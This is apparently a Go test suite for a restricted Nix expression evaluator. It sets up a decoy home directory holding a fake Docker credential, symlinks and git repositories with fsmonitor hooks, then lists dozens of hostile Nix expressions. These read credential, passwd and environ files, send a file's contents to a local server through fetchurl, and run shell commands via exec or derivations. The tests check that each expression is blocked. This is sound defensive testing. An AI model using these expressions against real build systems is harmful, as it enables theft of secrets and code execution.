package evaluator

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
)

// victim is what a hostile nixpkgs would like to have.
type victim struct {
	tree, image, outside, ran string
	url                       string
	requests, expressions     atomic.Int32
}

const secret = "5f0c3a-not-for-guests"

// newVictim makes one whose tree has links that lead out of it, or none: with them
// there are evaluations that do not begin.
func newVictim(t *testing.T, links bool) *victim {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	v := &victim{
		tree: filepath.Join(base, "tree"), image: filepath.Join(base, "image"), outside: filepath.Join(base, "home"), ran: filepath.Join(base, "ran"),
	}
	for _, dir := range []string{v.tree, v.image, filepath.Join(v.outside, ".docker")} {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for file, text := range map[string]string{
		filepath.Join(v.outside, ".docker/config.json"): secret,
		filepath.Join(v.outside, "default.nix"):         `"` + secret + `"`,
		filepath.Join(v.tree, "own.nix"):                `"own"`,
		filepath.Join(v.image, "own.nix"):               `"own"`,
	} {
		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	v.links(t, links)
	// Repositories, one of them in the tree, that run a program when git looks at them.
	for _, dir := range []string{filepath.Join(v.outside, "repo"), filepath.Join(v.tree, "repo")} {
		v.command(t, "git", "init", "--quiet", dir)
		v.command(t, "git", "-C", dir, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "--quiet", "--allow-empty", "--message=x")
		monitor := filepath.Join(dir, ".git/monitor")
		if err := os.WriteFile(monitor, []byte("#!/bin/sh\necho ran >> "+v.ran+"\n"), 0o755); err != nil {
			t.Fatal(err)
		}
		v.command(t, "git", "-C", dir, "config", "core.fsmonitor", monitor)
	}
	v.command(t, "tar", "-czf", filepath.Join(v.tree, "archive.tar.gz"), "-C", v.outside, "default.nix")
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { v.requests.Add(1); fmt.Fprint(w, "x") }))
	t.Cleanup(server.Close)
	v.url = server.URL
	return v
}

// links makes links in the tree: one that may be there and, where there are to be
// some, those that lead to what is not for the guest.
func (v *victim) links(t *testing.T, out bool) {
	t.Helper()
	links := map[string]string{"program": "/usr/bin/env"}
	if out {
		links["link"], links["up"], links["zero"] = filepath.Join(v.outside, ".docker/config.json"), "../home", "/dev/zero"
	}
	for link, target := range links {
		if err := os.Symlink(target, filepath.Join(v.tree, link)); err != nil {
			t.Fatal(err)
		}
	}
}

// checkUnharmed fails the test if an attack has reached what it should not.
func (v *victim) checkUnharmed(t *testing.T) {
	t.Helper()
	if n := v.requests.Load(); n > 0 {
		t.Errorf("%d requests were sent", n)
	}
	if _, err := os.Stat(v.ran); err == nil {
		t.Error("a program was run")
	}
}

// victims are one with links and one without.
type victims struct{ linked, bare *victim }

func newVictims(t *testing.T) victims {
	t.Helper()
	return victims{newVictim(t, true), newVictim(t, false)}
}

// of gives the victim whose links an evaluation is to meet.
func (v victims) of(links bool) *victim {
	if links {
		return v.linked
	}
	return v.bare
}

func (v *victim) command(t *testing.T, name string, args ...string) {
	t.Helper()
	if out, err := exec.Command(name, args...).CombinedOutput(); err != nil {
		t.Fatalf("%s %v: %v\n%s", name, args, err, out)
	}
}

// expression writes what is to be evaluated into the tree, with the victim's
// places put in.
func (v *victim) expression(t *testing.T, text string) Expression {
	t.Helper()
	text = strings.NewReplacer("HOME", v.outside, "TREE", v.tree, "IMAGE", v.image, "URL", v.url, "PID", fmt.Sprint(os.Getpid())).Replace(text)
	// A file for each, so that several can be evaluated at the same time.
	file := filepath.Join(v.tree, fmt.Sprintf("attack-%d.nix", v.expressions.Add(1)))
	if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	return Expression{File: file, Read: []string{v.image, v.tree}}
}

// modes are those in which attacks are tried: the weaker ones, without namespaces.
var modes = []Mode{{}, {Writable: true}}

// nixes are those that evaluate.
func nixes(t *testing.T) map[string]Nix {
	t.Helper()
	installed, err := Find(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	return map[string]Nix{"the one on PATH": installed, "the tree's": ofTree(t)}
}

// No expression reads what is not its own, sends anything anywhere, or runs a
// program. Each of these did one or the other, or tries in another way.
func TestAttacks(t *testing.T) {
	for name, n := range nixes(t) {
		t.Run(name, func(t *testing.T) { testAttacks(t, n) })
	}
}

func testAttacks(t *testing.T, n Nix) {
	both := newVictims(t)
	t.Cleanup(func() {
		both.linked.checkUnharmed(t)
		both.bare.checkUnharmed(t)
	})
	t.Setenv("FACTORY_SECRET", secret)
	for name, text := range map[string]string{
		"fetchTarball":              `builtins.fetchTarball "file://HOME/x.tar.gz"`,
		"fetchTarball over HTTP":    `builtins.fetchTarball "URL/x.tar.gz"`,
		"fetchGit":                  `(builtins.fetchGit "file://HOME/repo").outPath`,
		"fetchGit of a path":        `(builtins.fetchGit HOME/repo).outPath`,
		"fetchGit in the tree":      `(builtins.fetchGit "file://TREE/repo").outPath`,
		"fetchGit of the tree":      `(builtins.fetchGit TREE/repo).outPath`,
		"fetchGit, another form":    `(builtins.fetchGit { url = "TREE/repo"; ref = "master"; }).outPath`,
		"fetchMercurial":            `(builtins.fetchMercurial "file://TREE/repo").outPath`,
		"fetchurl":                  `builtins.fetchurl ("URL/?" + builtins.readFile "HOME/.docker/config.json")`,
		"fetchurl alone":            `builtins.fetchurl "URL/?x"`,
		"fetchurl of a file":        `builtins.readFile (builtins.fetchurl "file://HOME/.docker/config.json")`,
		"fetchurl of a link":        `builtins.readFile (builtins.fetchurl "file://TREE/link")`,
		"fetchurl in the tree":      `builtins.readFile (builtins.fetchurl "file://TREE/own.nix")`,
		"fetchTarball in the tree":  `import (builtins.fetchTarball "file://TREE/archive.tar.gz")`,
		"fetchTree":                 `(builtins.fetchTree { type = "path"; path = "HOME"; }).outPath`,
		"fetchTree of git":          `(builtins.fetchTree { type = "git"; url = "file://TREE/repo"; }).outPath`,
		"getFlake":                  `builtins.getFlake "path:HOME"`,
		"getFlake of git":           `builtins.getFlake "git+file://TREE/repo"`,
		"fetchClosure":              `builtins.fetchClosure { fromStore = "URL"; fromPath = /nix/store/00000000000000000000000000000000-x; }`,
		"readFile":                  `builtins.readFile "HOME/.docker/config.json"`,
		"readFile of the system":    `builtins.readFile "/etc/passwd"`,
		"readFile up and down":      `builtins.readFile (TREE + "/../home/.docker/config.json")`,
		"readFile of a link":        `builtins.readFile TREE/link`,
		"readFile through a folder": `builtins.readFile TREE/up/.docker/config.json`,
		"readFile without an end":   `builtins.readFile TREE/zero`,
		"readFile, own environment": `builtins.readFile "/proc/self/environ"`,
		"readFile, the factory's":   `builtins.readFile "/proc/PID/environ"`,
		"readDir":                   `builtins.attrNames (builtins.readDir "HOME")`,
		"readDir through a link":    `builtins.attrNames (builtins.readDir TREE/up)`,
		"readFileType":              `builtins.readFileType "HOME/.docker/config.json"`,
		"pathExists":                `assert builtins.pathExists "HOME/.docker/config.json"; 1`,
		"hashFile":                  `builtins.hashFile "sha256" "HOME/.docker/config.json"`,
		"path":                      `builtins.path { path = HOME/.docker; name = "x"; }`,
		"path with a filter":        `builtins.path { path = HOME/.docker; filter = p: t: builtins.trace p true; }`,
		"filterSource":              `builtins.filterSource (p: t: true) HOME/.docker`,
		"path in a string":          `"${HOME/.docker/config.json}"`,
		"path of a derivation":      `(derivation { name = "x"; system = "x"; builder = HOME/.docker/config.json; }).drvPath`,
		"import":                    `import HOME`,
		"import through a link":     `import TREE/up`,
		"scopedImport":              `builtins.scopedImport { } HOME`,
		"findFile":                  `builtins.readFile (builtins.findFile [ { path = "HOME"; prefix = ""; } ] ".docker/config.json")`,
		"search path":               `builtins.readFile <home/.docker/config.json>`,
		"search path of our own":    `import <factory-1/../home>`,
		"exec":                      `builtins.exec [ "/bin/sh" "-c" "echo ran >> HOME/../ran" ]`,
		"importNative":              `builtins.importNative "/lib/x86_64-linux-gnu/libc.so.6" "system"`,
		"import from derivation":    `import (derivation { name = "x"; system = builtins.currentSystem; builder = "/bin/sh"; args = [ "-c" "echo ran >> HOME/../ran; echo 1 > $out" ]; })`,
		"read what is built":        `builtins.readFile (import <nix/fetchurl.nix> { url = "URL/x"; sha256 = "0000000000000000000000000000000000000000000000000000"; })`,
		"getEnv":                    `assert builtins.getEnv "FACTORY_SECRET" != "" || builtins.getEnv "PATH" != ""; 1`,
		"says what Nix says":        `throw "operation 'addToStore' is not supported by store 'dummy'; path is not valid; don't know how to open Nix store"`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, mode := range modes {
				v := both.of(!mode.Writable || strings.Contains(text, "TREE/link") || strings.Contains(text, "TREE/up"))
				out, err := n.eval(t.Context(), mode, t.TempDir(), v.expression(t, text))
				if err == nil {
					t.Errorf("%+v: it is %s", mode, out)
				}
				if err != nil && strings.Contains(err.Error(), secret) {
					t.Errorf("%+v: the secret is in the error: %v", mode, err)
				}
			}
		})
	}
}

// An evaluation with the store and the configuration of this machine is as
// restricted, whatever that configuration says.
func TestAttacksHere(t *testing.T) {
	n, err := Find(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	both := newVictims(t)
	v, dir := both.bare, t.TempDir()
	t.Setenv("NIX_REMOTE", "local?root="+dir)
	t.Setenv("NIX_STATE_DIR", dir)
	t.Setenv("NIX_PATH", "home="+v.outside)
	t.Setenv("NIX_CONFIG", "build-users-group =\nrestrict-eval = false\nallowed-uris = http:// file://\nallow-import-from-derivation = true\nallow-unsafe-native-code-during-evaluation = true\nsandbox = false")
	if out, err := n.EvalHere(t.Context(), v.expression(t, `import ./own.nix`)); err != nil || strings.TrimSpace(string(out)) != `"own"` {
		t.Fatalf("what is allowed: %s, %v", out, err)
	}
	for name, text := range map[string]string{
		"readFile":               `builtins.readFile "HOME/.docker/config.json"`,
		"search path":            `builtins.readFile <home/.docker/config.json>`,
		"fetchurl":               `builtins.fetchurl "URL/?x"`,
		"fetchTarball":           `builtins.fetchTarball "URL/x.tar.gz"`,
		"fetchurl in the tree":   `builtins.readFile (builtins.fetchurl "file://TREE/own.nix")`,
		"fetchGit in the tree":   `(builtins.fetchGit TREE/repo).outPath`,
		"getEnv":                 `assert builtins.getEnv "NIX_REMOTE" != ""; 1`,
		"exec":                   `builtins.exec [ "/bin/sh" "-c" "echo ran >> HOME/../ran; echo 1" ]`,
		"import from derivation": `import (derivation { name = "x"; system = builtins.currentSystem; builder = "/bin/sh"; args = [ "-c" "echo ran >> HOME/../ran; echo 1 > $out" ]; })`,
		"fetchurl of a link":     `builtins.readFile (builtins.fetchurl "file://TREE/link")`,
	} {
		v := both.of(strings.Contains(text, "TREE/link"))
		if out, err := n.EvalHere(t.Context(), v.expression(t, text)); err == nil {
			t.Errorf("%s: it is %s", name, out)
		}
	}
	both.linked.checkUnharmed(t)
	both.bare.checkUnharmed(t)
}

// What is allowed stays so, in every mode that this machine has.
func TestAllowed(t *testing.T) {
	for name, n := range nixes(t) {
		t.Run(name, func(t *testing.T) { testAllowed(t, n) })
	}
}

func testAllowed(t *testing.T, n Nix) {
	both := newVictims(t)
	best, err := n.Mode(t.Context(), t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{
		"the tree":         `import TREE/own.nix + import ./own.nix`,
		"the image folder": `import IMAGE/own.nix + import IMAGE/own.nix`,
		"a link in it":     `assert builtins.pathExists TREE/link -> true; "ownown"`,
		"derivations":      `builtins.seq (derivation { name = "x"; system = "x"; builder = ./own.nix; src = ./.; }).drvPath "ownown"`,
		"texts":            `builtins.seq (builtins.toFile "x" "y") "ownown"`,
		"a missing file":   `if builtins.pathExists TREE/missing then 1 else "ownown"`,
		"a folder's files": `assert builtins.readDir IMAGE == { "own.nix" = "regular"; }; "ownown"`,
		"part of a folder": `builtins.seq "${builtins.path { path = ./.; name = "part"; filter = p: t: baseNameOf p == "own.nix"; }}" "ownown"`,
	} {
		for _, mode := range append([]Mode{best}, modes...) {
			v := both.of(!mode.Writable)
			out, err := n.eval(t.Context(), mode, t.TempDir(), v.expression(t, text))
			if err != nil || strings.TrimSpace(string(out)) != `"ownown"` {
				t.Errorf("%s, %+v: %s, %v", name, mode, out, err)
			}
		}
	}
	// With a store of its own that can be written to, what was written can be read.
	e := both.bare.expression(t, `builtins.readFile (builtins.toFile "x" "y")`)
	out, err := n.eval(t.Context(), Mode{Writable: true}, t.TempDir(), e)
	if err != nil || strings.TrimSpace(string(out)) != `"y"` {
		t.Errorf("text in the store: %s, %v", out, err)
	}
}

// Without restriction the attacks are real: else the tests above would show nothing.
func TestAttacksAreReal(t *testing.T) {
	v := newVictim(t, true)
	evaluate := func(text string) string {
		t.Helper()
		dir := t.TempDir()
		cmd := exec.Command("nix-instantiate", "--eval", "--strict", "--read-write-mode", v.expression(t, text).File)
		cmd.Env = append(os.Environ(), "NIX_REMOTE=local?root="+dir, "HOME="+dir, "NIX_CONF_DIR="+dir, "NIX_STATE_DIR="+dir, "NIX_CONFIG=build-users-group =")
		out, _ := cmd.CombinedOutput()
		return string(out)
	}
	if out := evaluate(`builtins.readFile TREE/link`); !strings.Contains(out, secret) {
		t.Errorf("a file: %s", out)
	}
	if out := evaluate(`builtins.fetchurl "URL/?x"`); v.requests.Load() == 0 {
		t.Errorf("a request: %s", out)
	}
	out := evaluate(`(builtins.fetchGit TREE/repo).outPath`)
	if _, err := os.Stat(v.ran); err != nil {
		t.Logf("this Nix starts no program of a repository's: %s", out) // from 2.20 on
	}
}
